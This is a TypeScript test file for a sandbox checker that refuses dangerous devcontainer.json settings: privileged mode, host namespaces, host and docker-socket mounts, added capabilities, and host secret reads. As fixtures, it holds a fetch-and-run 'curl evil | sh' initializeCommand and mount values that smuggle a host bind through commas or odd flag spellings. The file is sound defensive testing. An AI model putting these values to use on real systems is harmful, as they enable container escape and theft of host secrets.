import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import {
  checkDevcontainer,
  checkImageMetadata,
  type DevcontainerContext,
  describeRefusals,
  parseMemory,
  parseMountSpec,
  type DevcontainerAllowances,
  type DevcontainerCheck,
} from '../../src/core/sandbox/devcontainerCheck';
import { featureReferences } from '../../src/core/sandbox/devcontainerFeatures';
import { buildSandboxConfig } from '../../src/core/sandbox/sandboxConfig';

const FILE = '.devcontainer/devcontainer.json';

function checked(config: unknown, allow: DevcontainerAllowances = {}): DevcontainerCheck {
  const result = checkDevcontainer(JSON.stringify(config, null, 2), FILE, allow);
  assert.equal(result.kind, 'checked', result.kind === 'syntaxError' ? result.message : '');
  return result as DevcontainerCheck;
}

function refusedWhere(config: unknown, allow: DevcontainerAllowances = {}): string[] {
  return checked(config, allow).refusals.map((refusal) => refusal.where);
}

describe('sandbox devcontainer.json check', () => {
  describe('syntax', () => {
    it('accepts comments and trailing commas', () => {
      const result = checkDevcontainer('// dev container\n{\n  "image": "node:20", /* pinned */\n  "runArgs": ["--init",],\n}\n', FILE);
      assert.equal(result.kind, 'checked');
      assert.deepEqual((result as DevcontainerCheck).refusals, []);
      assert.deepEqual((result as DevcontainerCheck).runArgs, ['--init']);
    });

    it('names the file, line and column of a syntax error', () => {
      const result = checkDevcontainer('{\n  "image": "node:20"\n  "runArgs": []\n}\n', FILE);
      assert.equal(result.kind, 'syntaxError');
      if (result.kind !== 'syntaxError') return;
      assert.equal(result.line, 3);
      assert.equal(result.column, 3);
      assert.match(result.message, /\.devcontainer\/devcontainer\.json has a syntax error at line 3, column 3: comma expected/);
      assert.match(result.message, /Fix the file/);
    });

    it('refuses a file that is not one object', () => {
      const result = checkDevcontainer('["image"]', FILE);
      assert.equal(result.kind, 'syntaxError');
      assert.match((result as { message: string }).message, /must contain one JSON object.*an array/);
    });
  });

  describe('refusals', () => {
    it('refuses privileged, in the property and in runArgs, with the reason', () => {
      const check = checked({ image: 'x', privileged: true, runArgs: ['--privileged'] });
      assert.deepEqual(
        check.refusals.map((r) => r.where),
        ['privileged', 'runArgs[0]: --privileged'],
      );
      assert.match(check.refusals[0]!.reason, /every capability/);
      assert.equal(check.refusals[0]!.allowedBy, 'allowPrivileged');
      assert.match(describeRefusals(check), /policy can allow it: lanes\.sandbox\.devcontainer\.allowPrivileged/);
    });

    it('refuses the host network in both spellings', () => {
      assert.deepEqual(refusedWhere({ image: 'x', runArgs: ['--network=host', '--net', 'host'] }), [
        'runArgs[0]: --network=host',
        'runArgs[1]: --net host',
      ]);
    });

    it('refuses host pid, ipc, uts, cgroup and user namespaces', () => {
      const where = refusedWhere({
        image: 'x',
        runArgs: ['--pid=host', '--ipc', 'host', '--uts=host', '--cgroupns=host', '--userns=host', '--pid=container:db'],
      });
      assert.equal(where.length, 6);
    });

    it('refuses added capabilities, one by one', () => {
      const check = checked({ image: 'x', capAdd: ['SYS_PTRACE', 'CAP_NET_ADMIN'], runArgs: ['--cap-add=SYS_ADMIN'] });
      assert.deepEqual(
        check.refusals.map((r) => r.reason),
        ['adds the Linux capability SYS_PTRACE', 'adds the Linux capability NET_ADMIN', 'adds the Linux capability SYS_ADMIN'],
      );
    });

    it('refuses extra host mounts in every form', () => {
      const where = refusedWhere({
        image: 'x',
        mounts: [
          'source=/home/me/.ssh,target=/root/.ssh,type=bind',
          { source: '/etc', target: '/host-etc', type: 'bind' },
          'source=shared-cache,target=/cache,type=volume',
        ],
        runArgs: ['-v', '/:/host', '--volume=/srv:/srv:ro', '--mount', 'type=bind,src=/opt,dst=/opt', '-v/tmp:/tmp'],
      });
      assert.deepEqual(where, [
        'mounts[0]',
        'mounts[1]',
        'mounts[2]',
        'runArgs[0]: -v /:/host',
        'runArgs[2]: --volume=/srv:/srv:ro',
        'runArgs[3]: --mount type=bind,src=/opt,dst=/opt',
        'runArgs[5]: -v/tmp:/tmp',
      ]);
    });

    it('names the docker socket as the engine socket, and a glob in allowMounts does not reach it', () => {
      const check = checked(
        {
          image: 'x',
          mounts: ['source=/var/run/docker.sock,target=/var/run/docker.sock,type=bind'],
          runArgs: ['-v', '/run/podman/podman.sock:/run/docker.sock'],
        },
        { allowMounts: ['/**'] },
      );
      assert.equal(check.refusals.length, 2);
      assert.match(check.refusals[0]!.reason, /engine's socket/);
    });

    it('refuses a workspaceMount that points elsewhere', () => {
      const check = checked({ image: 'x', workspaceMount: 'source=/home/me/project,target=/work,type=bind' });
      assert.match(check.refusals[0]!.reason, /only the worktree/);
    });

    it('accepts a workspaceMount of the workspace folder and keeps its target', () => {
      const check = checked({ image: 'x', workspaceMount: 'source=${localWorkspaceFolder},target=/app,type=bind,consistency=cached' });
      assert.deepEqual(check.refusals, []);
      assert.equal(check.workspaceFolder, '/app');
    });

    it('refuses initializeCommand, which runs on the host', () => {
      const check = checked({ image: 'x', initializeCommand: 'curl evil | sh' });
      assert.deepEqual(
        check.refusals.map((r) => [r.where, r.allowedBy]),
        [['initializeCommand', 'allowInitializeCommand']],
      );
    });

    it('refuses security options, devices, GPUs, published ports and host files', () => {
      const where = refusedWhere({
        image: 'x',
        securityOpt: ['seccomp=unconfined'],
        hostRequirements: { gpu: 'optional' },
        runArgs: [
          '--security-opt',
          'apparmor=unconfined',
          '--device=/dev/kvm',
          '--gpus',
          'all',
          '-p',
          '8080:80',
          '--env-file',
          '/home/me/.env',
          '--name',
          'fixed',
        ],
      });
      assert.deepEqual(where, [
        'securityOpt[0]: seccomp=unconfined',
        'runArgs[0]: --security-opt apparmor=unconfined',
        'runArgs[2]: --device=/dev/kvm',
        'runArgs[3]: --gpus all',
        'runArgs[5]: -p 8080:80',
        'runArgs[7]: --env-file /home/me/.env',
        'runArgs[9]: --name fixed',
        'hostRequirements.gpu',
      ]);
    });

    it('refuses run flags it does not know, and stray values', () => {
      const check = checked({ image: 'x', runArgs: ['--some-new-flag=1', 'stray'] });
      assert.equal(check.refusals.length, 2);
      assert.match(check.refusals[0]!.reason, /not one of the run flags/);
      assert.match(check.refusals[1]!.reason, /is not a flag/);
    });

    it('refuses reading host environment variables into the container', () => {
      const check = checked({
        image: 'x',
        containerEnv: { TOKEN: '${localEnv:GITHUB_TOKEN}' },
        customizations: { vscode: { settings: { a: '${localEnv:HOME}' } } },
      });
      assert.deepEqual(
        check.refusals.map((r) => r.where),
        ['containerEnv.TOKEN'],
      );
      assert.match(check.refusals[0]!.reason, /GITHUB_TOKEN/);
    });

    it('leaves Docker Compose configurations to the Compose check (composeCheck.ts)', () => {
      assert.deepEqual(refusedWhere({ dockerComposeFile: 'compose.yml', service: 'app' }), []);
    });

    it('refuses build options that hand host secrets or the host network to the build', () => {
      assert.deepEqual(
        refusedWhere({
          build: { dockerfile: 'Dockerfile', options: ['--secret', 'id=npm,src=/home/me/.npmrc', '--network=host', '--build-arg', 'A=1'] },
        }),
        ['build.options[0]: --secret id=npm,src=/home/me/.npmrc', 'build.options[2]: --network=host'],
      );
    });
  });

  describe('policy exceptions', () => {
    it('allows exactly what policy allows and records it', () => {
      const check = checked(
        {
          image: 'x',
          privileged: true,
          capAdd: ['SYS_PTRACE'],
          mounts: ['source=/opt/cache,target=/cache,type=bind,readonly'],
          initializeCommand: 'echo hi',
          runArgs: ['--network=host', '--cap-add', 'NET_ADMIN'],
        },
        {
          allowPrivileged: true,
          allowCapAdd: ['CAP_SYS_PTRACE'],
          allowMounts: ['/opt/**'],
          allowInitializeCommand: true,
          allowHostNetwork: true,
        },
      );
      assert.deepEqual(
        check.refusals.map((r) => r.where),
        ['runArgs[1]: --cap-add NET_ADMIN'],
      );
      assert.deepEqual(
        check.allowed.map((r) => r.where),
        ['initializeCommand', 'privileged', 'capAdd[0]', 'mounts[0]', 'runArgs[0]: --network=host'],
      );
      assert.equal(check.hostNetwork, true);
      assert.deepEqual(check.mounts, [{ where: 'mounts[0]', type: 'bind', source: '/opt/cache', target: '/cache', readonly: true }]);
    });

    it('allows the docker socket only when listed exactly', () => {
      const check = checked(
        { image: 'x', mounts: ['source=/var/run/docker.sock,target=/var/run/docker.sock,type=bind'] },
        { allowMounts: ['/var/run/docker.sock'] },
      );
      assert.deepEqual(check.refusals, []);
      assert.equal(check.allowed.length, 1);
    });
  });

  describe('what the sandbox takes over', () => {
    it('keeps safe run flags, drops network none and takes the smaller limits', () => {
      const check = checked({
        image: 'x',
        runArgs: ['--init', '-e', 'A=1', '--network=none', '--cpus=4', '--memory', '512m', '--pids-limit=100', '--network=bridge'],
      });
      assert.deepEqual(check.refusals, []);
      assert.deepEqual(check.runArgs, ['--init', '--env=A=1']);
      assert.deepEqual(check.limits, { cpus: 4, memoryBytes: 512 * 1024 * 1024, pids: 100 });
      assert.match(check.notes.join('\n'), /--network=bridge is ignored/);
      const sandbox = buildSandboxConfig(check, {
        worktreePath: '/data/worktrees/ab12cd34',
        defaultImage: 'unused',
        creationNetwork: 'none',
        limits: { cpus: 2, memoryMb: 1024, pids: 512 },
        labels: { 'dev.agentlanes.change': 'ab12cd34' },
      });
      assert.deepEqual(sandbox.config.runArgs, [
        '--init',
        '--env=A=1',
        '--network=none',
        '--cpus=2',
        `--memory=${512 * 1024 * 1024}b`,
        '--pids-limit=100',
        '--label=dev.agentlanes.change=ab12cd34',
      ]);
      assert.equal(sandbox.config.workspaceMount, 'type=bind,source=/data/worktrees/ab12cd34,target=/workspaces/ab12cd34');
      assert.equal(sandbox.config.image, 'x');
    });

    it('refuses a limit it cannot read', () => {
      assert.match(checked({ image: 'x', runArgs: ['--memory=lots'] }).refusals[0]!.reason, /does not understand \(lots\)/);
    });

    it('generates a configuration around the default image when the repository has none', () => {
      const sandbox = buildSandboxConfig(undefined, {
        worktreePath: '/w/t',
        defaultImage: 'localhost/img:1',
        creationNetwork: 'bridge',
        limits: {},
        labels: {},
      });
      assert.deepEqual(sandbox.config, {
        image: 'localhost/img:1',
        updateRemoteUserUID: false,
        workspaceMount: 'type=bind,source=/w/t,target=/workspaces/t',
        workspaceFolder: '/workspaces/t',
        runArgs: [],
      });
    });

    it('points a build at the base Dockerfile and builds with the preparation network', () => {
      const check = checked({ build: { dockerfile: 'Dockerfile', context: '..', options: ['--network=bridge', '--no-cache'] } });
      const sandbox = buildSandboxConfig(check, {
        worktreePath: '/w/t',
        defaultImage: 'x',
        creationNetwork: 'none',
        limits: {},
        labels: {},
        dockerfilePath: '/private/Dockerfile',
        buildContext: '/w/t',
      });
      assert.deepEqual(sandbox.config.build, {
        dockerfile: '/private/Dockerfile',
        context: '/w/t',
        options: ['--no-cache', '--network=none'],
      });
    });

    it('refuses to build a configuration that still has refusals, or a worktree path a mount cannot name', () => {
      assert.throws(
        () =>
          buildSandboxConfig(checked({ image: 'x', privileged: true }), {
            worktreePath: '/w',
            defaultImage: 'x',
            creationNetwork: 'none',
            limits: {},
            labels: {},
          }),
        /without refusals/,
      );
      assert.throws(
        () => buildSandboxConfig(undefined, { worktreePath: '/w/a,b', defaultImage: 'x', creationNetwork: 'none', limits: {}, labels: {} }),
        /contains a comma/,
      );
    });
  });

  describe('helpers', () => {
    it('reads memory sizes', () => {
      assert.equal(parseMemory('512m'), 512 * 1024 ** 2);
      assert.equal(parseMemory('2G'), 2 * 1024 ** 3);
      assert.equal(parseMemory('1.5gb'), 1.5 * 1024 ** 3);
      assert.equal(parseMemory('1024'), 1024);
      assert.equal(parseMemory('lots'), undefined);
    });

    it('reads mount specs in both syntaxes', () => {
      assert.deepEqual(parseMountSpec('/a:/b:ro', true), { type: 'bind', source: '/a', target: '/b', readonly: true });
      assert.deepEqual(parseMountSpec('cache:/c', true), { type: 'volume', source: 'cache', target: '/c', readonly: false });
      assert.deepEqual(parseMountSpec('/anon', true), { type: 'volume', source: '', target: '/anon', readonly: false });
      assert.deepEqual(parseMountSpec('type=bind,source=/a,target=/b,readonly', false), {
        type: 'bind',
        source: '/a',
        target: '/b',
        readonly: true,
      });
    });

    it('lets anonymous volumes and tmpfs through', () => {
      const check = checked({ image: 'x', mounts: ['type=tmpfs,target=/scratch'], runArgs: ['-v', '/node_modules', '--tmpfs', '/run'] });
      assert.deepEqual(check.refusals, []);
      assert.deepEqual(check.runArgs, ['--volume=/node_modules', '--tmpfs=/run']);
    });
  });
});

describe('sandbox devcontainer.json check: issue 13 §6 attacker spellings', () => {
  const FEATURES = join(__dirname, '..', '..', '..', 'test', 'fixtures', 'devcontainer-features');
  const metadata = (id: string) => readFileSync(join(FEATURES, id, 'devcontainer-feature.json'), 'utf8');

  function check(config: unknown, allow: DevcontainerAllowances = {}, context: DevcontainerContext = {}): DevcontainerCheck {
    const result = checkDevcontainer(JSON.stringify(config, null, 2), FILE, allow, context);
    assert.equal(result.kind, 'checked', result.kind === 'syntaxError' ? result.message : '');
    return result as DevcontainerCheck;
  }

  function refusedRunArgs(...runArgs: string[]): string[] {
    return check({ image: 'x', runArgs }).refusals.map((refusal) => refusal.where);
  }

  describe('runArgs parsed the way docker and podman (pflag) parse them', () => {
    it('reads -v=/host/dir:/hostdir as a host bind mount, not an anonymous volume', () => {
      const found = check({ image: 'x', runArgs: ['-v=/host/dir:/hostdir'] });
      assert.deepEqual(
        found.refusals.map((r) => [r.where, r.allowedBy]),
        [['runArgs[0]: -v=/host/dir:/hostdir', 'allowMounts']],
      );
      assert.match(found.refusals[0]!.reason, /mounts \/host\/dir from the host/);
      assert.deepEqual(found.runArgs, []);
    });

    it('refuses the host root in every -v spelling', () => {
      for (const spelling of [
        ['-v=/:/host'],
        ['-v/:/host'],
        ['-v', '/:/host'],
        ['--volume=/:/host'],
        ['--volume', '/:/host'],
        ['-itv/:/host'],
      ])
        assert.equal(refusedRunArgs(...spelling).length, 1, spelling.join(' '));
    });

    it('reads a -v value as the short syntax even when it has "=" in it', () => {
      assert.equal(refusedRunArgs('-v', '/etc:/h=x').length, 1);
      assert.equal(refusedRunArgs('--volume=/etc,type=tmpfs:/h').length, 1);
    });

    it('refuses --mount binds in every spelling, and volume driver options that bind a host path', () => {
      for (const spelling of [
        ['--mount=type=bind,src=/,dst=/h'],
        ['--mount', 'type=bind,source=/,target=/h'],
        ['--mount', 'type=volume,volume-opt=device=/,volume-opt=o=bind,dst=/h'],
        ['--mount', 'type=volume,volume-opt=device=/,o=bind,dst=/h'],
        ['--mount', 'type=volume,volume-driver=local,dst=/h'],
        ['--mount', 'TYPE=BIND,SRC=/,DST=/h'],
        ['--mount', 'type=glob,src=/etc/*,dst=/h'],
        ['--mount', 'type=bind,"src=/",dst=/h'],
        ['--mount', 'type=bind,source=/opt/cache/../../etc,target=/h'],
      ])
        assert.equal(check({ image: 'x', runArgs: spelling }, { allowMounts: ['/opt/cache/**'] }).refusals.length, 1, spelling.join(' '));
    });

    it('refuses privileged however it is spelled, and drops it when it says false', () => {
      assert.equal(refusedRunArgs('--privileged=true').length, 1);
      assert.equal(refusedRunArgs('--privileged=1').length, 1);
      assert.equal(refusedRunArgs('--privileged=T').length, 1);
      assert.deepEqual(check({ image: 'x', runArgs: ['--privileged=false', '--privileged=0'] }).refusals, []);
      assert.equal(refusedRunArgs('--privileged=maybe').length, 1);
      // pflag: a bool flag never takes the next argument, so "false" is the image name: refused as a stray value.
      assert.deepEqual(refusedRunArgs('--privileged', 'false'), ['runArgs[0]: --privileged', 'runArgs[1]: false']);
    });

    it('refuses capabilities, including ALL and comma lists that smuggle a second one', () => {
      assert.equal(refusedRunArgs('--cap-add=all').length, 1);
      assert.equal(refusedRunArgs('--cap-add', 'ALL').length, 1);
      const found = check(
        { image: 'x', runArgs: ['--cap-add=NET_ADMIN,SYS_ADMIN'], capAdd: ['NET_ADMIN,SYS_ADMIN'] },
        { allowCapAdd: ['NET_ADMIN'] },
      );
      assert.deepEqual(
        found.refusals.map((r) => r.reason),
        ['adds the Linux capability SYS_ADMIN', 'adds the Linux capability SYS_ADMIN'],
      );
    });

    it('refuses security options, devices and host namespaces in every spelling', () => {
      for (const spelling of [
        ['--security-opt', 'seccomp=unconfined'],
        ['--security-opt=apparmor=unconfined'],
        ['--security-opt=label=disable'],
        ['--security-opt=unmask=ALL'],
        ['--device', '/dev/kvm'],
        ['--device=/dev/fuse'],
        ['--pid=host'],
        ['--pid', 'host'],
        ['--network=host'],
        ['--net=host'],
        ['--network', 'ns:/proc/1/ns/net'],
        ['--userns=host'],
        ['--ipc=host'],
        ['--uts', 'host'],
        ['--cgroupns=host'],
      ])
        assert.equal(refusedRunArgs(...spelling).length, 1, spelling.join(' '));
    });

    it('refuses flags that read the host: --env-file, --env-host, -e NAME without a value, --rootfs', () => {
      assert.deepEqual(refusedRunArgs('--env-file', '/home/me/.env', '--env-host', '-e', 'GITHUB_TOKEN', '--env=AWS_*', '--rootfs'), [
        'runArgs[0]: --env-file /home/me/.env',
        'runArgs[2]: --env-host',
        'runArgs[3]: -e GITHUB_TOKEN',
        'runArgs[5]: --env=AWS_*',
        'runArgs[6]: --rootfs',
      ]);
    });

    it('refuses a space-separated value that looks like a flag, "--", and labels the sandbox owns', () => {
      assert.equal(refusedRunArgs('--hostname', '--privileged').length, 1);
      assert.equal(refusedRunArgs('--', '--privileged').length, 2);
      assert.equal(refusedRunArgs('--label=dev.agentlanes.change=other').length, 1);
      assert.equal(refusedRunArgs('-l', 'devcontainer.metadata=[{"privileged":true}]').length, 1);
    });

    it('refuses --pull that would reach a registry with no preparation network, naming the policy setting', () => {
      const found = check({ image: 'x', runArgs: ['--pull=always', '--pull', 'newer'] });
      assert.deepEqual(
        found.refusals.map((r) => r.where),
        ['runArgs[0]: --pull=always', 'runArgs[1]: --pull', 'runArgs[2]: newer'],
      );
      assert.match(describeRefusals(found), /lanes\.sandbox\.network\.preparation/);
      assert.deepEqual(check({ image: 'x', runArgs: ['--pull=always'] }, {}, { pullAllowed: true }).refusals, []);
      assert.deepEqual(check({ image: 'x', runArgs: ['--pull=never', '--pull=missing'] }).refusals, []);
    });

    it('keeps harmless flags in every spelling: --init, --add-host, -e NAME=value, grouped -it, repeats', () => {
      const found = check({
        image: 'x',
        runArgs: [
          '--init',
          '--init=true',
          '--add-host=db:127.0.0.1',
          '--add-host',
          'cache:127.0.0.1',
          '-it',
          '-eA=1',
          '-e=B=2',
          '--env',
          'C=3',
          '-u',
          'node',
        ],
      });
      assert.deepEqual(found.refusals, []);
      assert.equal(found.runArgs.length, 10);
    });
  });

  describe('privileged and mounts outside runArgs', () => {
    it('refuses "privileged" when the CLI would read it as true: "true", 1, "false"', () => {
      for (const value of ['true', 1, 'false', 'yes', {}])
        assert.deepEqual(
          check({ image: 'x', privileged: value }).refusals.map((r) => r.where),
          ['privileged'],
          JSON.stringify(value),
        );
      for (const value of [false, 0, '', null])
        assert.deepEqual(check({ image: 'x', privileged: value }).refusals, [], JSON.stringify(value));
    });

    it('reads mount objects the way the CLI writes them into --mount, so a comma in a field cannot add a bind', () => {
      // The CLI writes type=volume,src=cache,dst=/h,type=bind,src=/etc: the engine mounts the host's /etc.
      const found = check(
        { image: 'x', mounts: [{ type: 'volume', source: 'cache', target: '/h,type=bind,src=/etc' }] },
        { allowMounts: ['cache'] },
      );
      assert.deepEqual(
        found.refusals.map((r) => r.reason),
        ['mounts /etc from the host'],
      );
    });

    it('accepts harmless mounts: type=image, tmpfs, an anonymous volume, a bind without a source', () => {
      const found = check({
        image: 'x',
        mounts: ['type=image,source=localhost/tools:1,target=/tools', 'type=bind,target=/empty', { type: 'tmpfs', target: '/scratch' }],
        runArgs: ['--mount=type=image,src=localhost/tools:1,dst=/t2', '-v', '/anon', '--tmpfs', '/run'],
      });
      assert.deepEqual(found.refusals, []);
    });

    it('takes the worktree’s folder name for ${localWorkspaceFolderBasename} in workspaceFolder', () => {
      const found = check({ image: 'x', workspaceFolder: '/workspaces/${localWorkspaceFolderBasename}/app' });
      assert.deepEqual(found.refusals, []);
      const sandbox = buildSandboxConfig(found, {
        worktreePath: '/w/ab12',
        defaultImage: 'x',
        creationNetwork: 'none',
        limits: {},
        labels: {},
      });
      assert.equal(sandbox.workspaceFolder, '/workspaces/ab12/app');
      assert.equal(sandbox.config.workspaceMount, 'type=bind,source=/w/ab12,target=/workspaces/ab12/app');
    });

    it('refuses a workspaceFolder that would add options to the sandbox’s own mount', () => {
      const found = check({ image: 'x', workspaceFolder: '/w,src=/' });
      assert.deepEqual(
        found.refusals.map((r) => r.where),
        ['workspaceFolder'],
      );
    });
  });

  describe('build', () => {
    it('keeps the build context and the Dockerfile inside the repository', () => {
      assert.deepEqual(
        check({ build: { dockerfile: 'Dockerfile', context: '../../..' } }).refusals.map((r) => r.where),
        ['build.context'],
      );
      assert.deepEqual(
        check({ build: { dockerfile: '/etc/Dockerfile', context: '/' } }).refusals.map((r) => r.where),
        ['build.dockerfile', 'build.context'],
      );
      assert.deepEqual(check({ build: { dockerfile: 'Dockerfile', context: '..' } }).refusals, []);
    });

    it('accepts --add-host in build.options, refuses host reads and registry pulls', () => {
      assert.deepEqual(
        check({ build: { dockerfile: 'Dockerfile', options: ['--add-host=db:127.0.0.1', '--add-host', 'x:1.2.3.4'] } }).refusals,
        [],
      );
      assert.deepEqual(
        check({
          build: {
            dockerfile: 'Dockerfile',
            options: ['--build-arg', 'NPM_TOKEN', '-v', '/:/h', '--pull', '--build-context=x=/etc'],
            cacheFrom: 'ghcr.io/x/y',
          },
        }).refusals.map((r) => r.where),
        [
          'build.options[0]: --build-arg NPM_TOKEN',
          'build.options[2]: -v /:/h',
          'build.options[4]: --pull',
          'build.options[5]: --build-context=x=/etc',
          'build.cacheFrom',
        ],
      );
    });
  });

  describe('features, checked by their metadata', () => {
    const local = (id: string) => ({ [`./features/${id}`]: metadata(id) });

    it('refuses docker-in-docker: privileged and a shared named volume', () => {
      const found = check({ image: 'x', features: { './features/docker-in-docker': {} } }, {}, { features: local('docker-in-docker') });
      assert.deepEqual(
        found.refusals.map((r) => [r.where, r.allowedBy]),
        [
          ['features["./features/docker-in-docker"] (devcontainer-feature.json): privileged', 'allowPrivileged'],
          ['features["./features/docker-in-docker"] (devcontainer-feature.json): mounts[0]', 'allowMounts'],
        ],
      );
    });

    it('refuses docker-outside-of-docker: the engine socket and label=disable', () => {
      const found = check(
        { image: 'x', features: { './features/docker-outside-of-docker': {} } },
        {},
        { features: local('docker-outside-of-docker') },
      );
      assert.equal(found.refusals.length, 2);
      assert.match(found.refusals[0]!.reason, /engine's socket/);
      assert.match(found.refusals[1]!.where, /securityOpt\[0\]: label=disable/);
    });

    it('refuses go and rust: SYS_PTRACE and seccomp=unconfined', () => {
      for (const id of ['go', 'rust']) {
        const found = check({ image: 'x', features: { [`./features/${id}`]: { version: 'latest' } } }, {}, { features: local(id) });
        assert.deepEqual(
          found.refusals.map((r) => r.where.split('(devcontainer-feature.json): ')[1]),
          ['capAdd[0]', 'securityOpt[0]: seccomp=unconfined'],
          id,
        );
      }
    });

    it('accepts a harmless local feature', () => {
      const found = check({ image: 'x', features: { './features/harmless': {} } }, {}, { features: local('harmless') });
      assert.deepEqual(found.refusals, []);
    });

    it('refuses a remote feature whose metadata cannot be read offline, unless policy allows it', () => {
      const id = 'ghcr.io/devcontainers/features/docker-in-docker:2';
      const found = check({ image: 'x', features: { [id]: {} } });
      assert.deepEqual(
        found.refusals.map((r) => [r.where, r.allowedBy]),
        [[`features["${id}"]`, 'allowFeatures']],
      );
      assert.match(describeRefusals(found), /lanes\.sandbox\.devcontainer\.allowedFeatures/);
      assert.deepEqual(check({ image: 'x', features: { [id]: {} } }, { allowFeatures: ['ghcr.io/devcontainers/features/*'] }).refusals, []);
    });

    it('refuses a local feature that leaves the configuration folder or has no metadata', () => {
      const found = check({ image: 'x', features: { '../../outside': {}, './features/missing': {} } });
      assert.deepEqual(
        found.refusals.map((r) => r.where),
        ['features["../../outside"]', 'features["./features/missing"]'],
      );
    });

    it('lists the local features a caller must read', () => {
      assert.deepEqual(featureReferences({ features: { './features/a': {}, 'ghcr.io/x/y:1': {} } }, '.devcontainer/devcontainer.json'), [
        { id: './features/a', local: '.devcontainer/features/a' },
        { id: 'ghcr.io/x/y:1' },
      ]);
    });
  });

  describe('image metadata', () => {
    it('refuses what an image’s devcontainer.metadata label asks for, and accepts a harmless one', () => {
      const message = checkImageMetadata(
        JSON.stringify([{ id: 'ghcr.io/devcontainers/features/go:1', capAdd: ['SYS_PTRACE'] }, { privileged: true }]),
        'localhost/x:1',
        {},
      );
      assert.match(
        message ?? '',
        /image localhost\/x:1: label devcontainer\.metadata\[0\]: capAdd\[0\]: adds the Linux capability SYS_PTRACE/,
      );
      assert.match(message ?? '', /devcontainer\.metadata\[1\]: privileged/);
      assert.equal(checkImageMetadata(JSON.stringify([{ remoteUser: 'node', postCreateCommand: 'npm ci' }]), 'x', {}), undefined);
      assert.match(checkImageMetadata('{not json', 'x', {}) ?? '', /is not JSON/);
    });

    it('refuses podman overlay volume options that name host folders', () => {
      const allow = { allowMounts: ['/opt/cache'] };
      assert.deepEqual(check({ image: 'x', runArgs: ['-v', '/opt/cache:/t:ro'] }, allow).refusals, []);
      assert.match(
        check({ image: 'x', runArgs: ['-v', '/opt/cache:/t:O,upperdir=/etc,workdir=/tmp/w'] }, allow).refusals[0]!.reason,
        /name host folders/,
      );
    });
  });

  describe('messages', () => {
    it('names the exact field and the policy setting that would allow it, or that none does', () => {
      const found = check({ image: 'x', privileged: true, runArgs: ['--device=/dev/kvm'] });
      const message = describeRefusals(found);
      assert.match(message, /- privileged: .* \(policy can allow it: lanes\.sandbox\.devcontainer\.allowPrivileged\)/);
      assert.match(message, /- runArgs\[0\]: --device=\/dev\/kvm: .* \(no policy setting allows it\)/);
    });
  });
});
